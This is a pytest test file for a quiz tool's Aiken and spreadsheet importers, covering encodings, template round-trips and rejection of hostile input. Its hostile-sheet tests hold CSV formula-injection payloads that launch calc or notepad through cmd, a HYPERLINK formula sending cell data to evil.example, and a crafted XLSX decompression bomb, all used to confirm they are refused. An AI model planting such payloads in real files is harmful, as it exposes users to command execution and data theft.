"""Aiken and spreadsheet (CSV, XLSX) imports: Moodle's own Aiken test files, the template
`curriculum new bank --spreadsheet` writes read back as every type, and hostile sheets
(formulas, other encodings, huge files) refused with their row and column."""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import Workbook

from builder.cli.main import main
from builder.imports.spreadsheet import MAX_ROWS, MAX_UNPACKED
from builder.load.project import load_project

from .conftest import DATA, MINIMAL

AIKEN = DATA / "imports" / "aiken"
HEADER = "id,type,prompt,options,correct,partial,feedback\r\n"


@pytest.fixture()
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(MINIMAL, root, ignore=shutil.ignore_patterns("site"))
    return root


def _run(project: Path, *args: str):
    return CliRunner().invoke(main, [*args, "-p", str(project)])


def _import(project: Path, kind: str, file: Path, bank: str = "imported", *extra: str):
    return _run(project, "import", kind, str(file), "--bank", bank, *extra)


def _bank(project: Path, bank: str = "imported") -> dict:
    return yaml.safe_load((project / "quizzes" / f"{bank}.yaml").read_text("utf-8"))


def _quizzes(project: Path) -> set[str]:
    return {p.name for p in (project / "quizzes").iterdir()}


# --- Aiken ---------------------------------------------------------------------------------

def test_moodles_aiken_fixture(project: Path) -> None:
    result = _import(project, "aiken", AIKEN / "moodle-questions.aiken.txt")
    assert result.exit_code == 0, result.output
    first, second = _bank(project)["questions"]
    assert first["type"] == "single" and first["prompt"] == "The Moodle project was started by:"
    assert [o.get("correct", False) for o in first["options"]] == [False, True, False, False]
    assert second["prompt"].startswith("Moodle's abilities include handling user input that "
                                       "includes &lt;html class=\"cool\"> & images")
    assert [o["text"] for o in second["options"]] == ["True", "False"]
    assert load_project(project).banks["imported"].questions[1].options[0].correct


def test_moodles_aiken_errors_fixture_at_moodles_lines(project: Path) -> None:
    """Moodle's aikenformat_test.php: two good questions, and errors on lines 3, 5, 7 and for
    the question of line 14 (Moodle names line 18, where the next question starts)."""
    result = _import(project, "aiken", AIKEN / "moodle-aiken_errors.txt")
    assert result.exit_code == 0, result.output
    questions = _bank(project)["questions"]
    assert [q["prompt"] for q in questions] == ["A good question", "A second good question"]
    assert [o["text"] for o in questions[1]["options"]] == ["Incorrect (No space)",
                                                            "Correct (No space)"]
    assert questions[1]["options"][1]["correct"] is True
    warnings = [line for line in result.stderr.splitlines() if line.startswith("left out:")]
    assert [w.split("moodle-aiken_errors.txt:")[1].split(":")[0] for w in warnings] == [
        "3", "5", "7", "14"]
    assert "line 18" in warnings[3]


def test_aiken_in_russian_with_cyrillic_labels(project: Path, tmp_path: Path) -> None:
    file = tmp_path / "ru.txt"
    file.write_text("Какой орган принимает запросы?\nпо Минской конвенции\n\nА) Суд\n"
                    "В) Центральный орган\nANSWER: В\n", encoding="utf-8")
    assert _import(project, "aiken", file).exit_code == 0
    question = _bank(project)["questions"][0]
    assert question["prompt"] == "Какой орган принимает запросы?\n\nпо Минской конвенции"
    assert question["options"] == [{"text": "Суд"}, {"text": "Центральный орган",
                                                      "correct": True}]


# --- the spreadsheet template, every type ---------------------------------------------------

def test_template_reads_back_as_every_type(project: Path) -> None:
    result = _run(project, "new", "bank", "sheet", "--spreadsheet")
    assert result.exit_code == 0, result.output
    csv_bytes = (project / "quizzes" / "sheet.csv").read_bytes()
    assert csv_bytes.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 with a BOM as UTF-8
    assert _import(project, "spreadsheet", project / "quizzes" / "sheet.csv").exit_code == 0
    result = _import(project, "spreadsheet", project / "quizzes" / "sheet.xlsx", "from-xlsx")
    assert result.exit_code == 0, result.output
    from_csv, from_xlsx = _bank(project)["questions"], _bank(project, "from-xlsx")["questions"]
    assert from_csv == from_xlsx
    assert [q["type"] for q in from_csv] == ["single", "multiple", "true-false", "fill-in",
                                             "matching", "ordering", "open", "numeric"]
    by_type = {q["type"]: q for q in from_csv}
    assert by_type["single"]["options"][2] == {
        "text": "The embassy", "credit": 50,
        "feedback": "Only through diplomatic channels, half the points."}
    assert by_type["numeric"]["answers"] == [{"value": 30, "feedback": "Thirty days."},
                                             {"value": 45, "tolerance": 15, "credit": 50}]
    assert by_type["true-false"]["feedback_false"] == "It may, in urgent cases."
    assert by_type["fill-in"]["partial"] == [{"answer": "1992", "credit": 25}]
    assert by_type["matching"]["pairs"][1] == {"left": "Article 18",
                                               "right": "mutual legal assistance"}
    assert len(load_project(project).banks["imported"].questions) == 8
    again = _run(project, "new", "bank", "sheet", "--spreadsheet")
    assert again.exit_code == 1 and "exists already" in again.output
    assert (project / "quizzes" / "sheet.csv").read_bytes() == csv_bytes


def test_russian_excel_csv_semicolons_and_cp1251(project: Path, tmp_path: Path) -> None:
    file = tmp_path / "ru.csv"
    file.write_bytes(("type;prompt;correct;unit;partial\r\n"
                      "numeric;Сколько дней на ответ?;30 ± 0,5;дней;45 ± 15 (50%)\r\n"
                      ).encode("cp1251"))
    refused = _import(project, "spreadsheet", file)
    assert refused.exit_code == 1
    assert "ru.csv:2:" in refused.output and "--encoding cp1251" in refused.output
    assert "Traceback" not in refused.output and "imported.yaml" not in _quizzes(project)
    result = _import(project, "spreadsheet", file, "imported", "--encoding", "cp1251")
    assert result.exit_code == 0, result.output
    question = _bank(project)["questions"][0]
    assert question["prompt"] == "Сколько дней на ответ?" and question["unit"] == "дней"
    assert question["answers"] == [{"value": 30, "tolerance": 0.5},
                                   {"value": 45, "tolerance": 15, "credit": 50}]


def test_utf16_text_from_excel(project: Path, tmp_path: Path) -> None:
    """Excel's "Unicode text": UTF-16 with a BOM, tab-separated."""
    file = tmp_path / "unicode.txt"
    file.write_bytes("type\tprompt\tcorrect\r\ntrue-false\tВерно ли?\tда\r\n".encode("utf-16"))
    assert _import(project, "spreadsheet", file).exit_code == 0
    assert _bank(project)["questions"][0]["answer"] is True


# --- hostile sheets ------------------------------------------------------------------------

@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
                                  '=HYPERLINK("http://evil.example/?"&A1,"x")'])
def test_formulas_are_left_out_never_carried(project: Path, tmp_path: Path, cell: str) -> None:
    file = tmp_path / "sheet.csv"
    quoted = '"' + cell.replace('"', '""') + '"'
    file.write_text(HEADER + f"a,single,{quoted},Yes | No,A,,\r\n"
                    "b,true-false,- is this (a) list?,,false,,\r\n", encoding="utf-8")
    result = _import(project, "spreadsheet", file)
    assert result.exit_code == 0, result.output
    assert "sheet.csv:2:3: prompt: row 2:" in result.stderr and "formula" in result.stderr
    text = (project / "quizzes" / "imported.yaml").read_text("utf-8")
    assert "cmd" not in text and "HYPERLINK" not in text and "SUM" not in text
    assert [q["id"] for q in _bank(project)["questions"]] == ["b"]


def test_xlsx_formula_cell_is_left_out(project: Path, tmp_path: Path) -> None:
    book = Workbook()
    book.active.append(["type", "prompt", "correct"])
    book.active.append(["true-false", "=1+1", "true"])  # openpyxl stores it as a formula
    book.active.append(["true-false", "Plain text", "false"])
    book.save(tmp_path / "f.xlsx")
    result = _import(project, "spreadsheet", tmp_path / "f.xlsx")
    assert result.exit_code == 0, result.output
    assert "f.xlsx:2:2: prompt: row 2:" in result.stderr
    assert [q["prompt"] for q in _bank(project)["questions"]] == ["Plain text"]


def test_bad_rows_are_told_by_row_and_column(project: Path, tmp_path: Path) -> None:
    file = tmp_path / "bad.csv"
    file.write_text(HEADER + "a,single,Q?,One | Two,C,,\r\n"
                    "b,numeric,N?,,thirty,,\r\nc,quiz,X?,,,,\r\n"
                    "d,single,Fine?,One | Two,B,A (150%),\r\n"
                    "e,fill-in,Right?,,yes,,\r\n", encoding="utf-8")
    result = _import(project, "spreadsheet", file)
    assert result.exit_code == 0, result.output
    told = [line.split("bad.csv:")[1][:6] for line in result.stderr.splitlines()
            if line.startswith("left out:")]
    assert told == ["2:5: c", "3:5: c", "4:2: t", "5:6: p"]
    assert [q["id"] for q in _bank(project)["questions"]] == ["e"]


def test_unknown_columns_and_no_questions_write_nothing(project: Path, tmp_path: Path) -> None:
    file = tmp_path / "cols.csv"
    file.write_text("type,prompt,anwser\r\nsingle,Q?,A\r\n", encoding="utf-8")
    result = _import(project, "spreadsheet", file)
    assert result.exit_code == 1 and "cols.csv:1:3: anwser: unknown column" in result.output
    empty = tmp_path / "empty.csv"
    empty.write_text("type,prompt\r\n", encoding="utf-8")
    assert _import(project, "spreadsheet", empty).exit_code == 1
    assert _quizzes(project) == {"alpha-bank.yaml"}


def test_huge_sheets_are_refused(project: Path, tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("type,prompt,correct\r\n" + "true-false,Q?,true\r\n" * (MAX_ROWS + 1),
                    encoding="utf-8")
    result = _import(project, "spreadsheet", rows)
    assert result.exit_code == 1 and f"more than {MAX_ROWS} questions" in result.output
    bomb = tmp_path / "bomb.xlsx"  # a real workbook whose sheet unpacks beyond the limit
    book = Workbook()
    book.active.append(["type", "prompt", "correct"])
    book.active.append(["true-false", "Q?", "true"])
    book.save(bomb)
    parts = {i.filename: zipfile.ZipFile(bomb).read(i) for i in zipfile.ZipFile(bomb).infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(b"</worksheet>", b" " * MAX_UNPACKED + b"</worksheet>")
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert bomb.stat().st_size < 1024 * 1024
    result = _import(project, "spreadsheet", bomb)
    assert result.exit_code == 1 and "unpacks to" in result.output
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(io.BytesIO(b"PK\x03\x04 not really").getvalue())
    result = _import(project, "spreadsheet", broken)
    assert result.exit_code == 1 and "not an XLSX workbook" in result.output
    assert "Traceback" not in result.output and _quizzes(project) == {"alpha-bank.yaml"}
